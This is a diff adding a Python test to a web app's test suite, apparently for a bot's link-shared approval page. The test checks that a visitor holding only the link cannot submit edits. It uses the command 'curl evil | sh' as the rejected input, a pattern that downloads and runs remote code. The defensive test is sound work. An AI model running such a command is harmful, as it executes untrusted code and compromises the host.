@@ -20,6 +20,8 @@ from tests.handlers.site import (
     BROWSER,
     LINKS,
     NAVIGATES,
+    OWN_PAGE,
+    PUBLIC_SITE,
     Asked,
     Site,
     site,
@@ -49,6 +51,20 @@ def test_every_action_of_a_kind_has_a_route_and_is_handed_to_the_desk(
             assert here.desk.answers == [Answer(ID, row.name, surface="link")]
             assert "操作成功" in told(response)
         assert response.status == 200
+
+
+def test_link_alone_allows_what_was_asked_and_never_writes_what_runs() -> None:
+    """Whoever is in a group with the bot has the link of its cards."""
+    here = site(**PUBLIC_SITE)
+    page = Page(here.tap("/request", **BROWSER).body)
+    assert "allow" in page.forms and "edit" not in page.forms
+    response = here.press("/edit", command="curl evil | sh", headers=OWN_PAGE)
+    assert here.desk.answers == [] and b"evil" not in response.body
+    cookie = here.sessions.open("127.0.0.1", "phone").partition(";")[0]
+    known = {**BROWSER, "cookie": cookie}
+    assert "edit" in Page(here.tap("/request", **known).body).forms
+    here.press("/edit", command="ls -l", headers={**OWN_PAGE, "cookie": cookie})
+    assert [answer.action for answer in here.desk.answers] == ["edit"]
 
 
 def test_link_of_an_action_the_kind_does_not_have_shows_the_page() -> None:
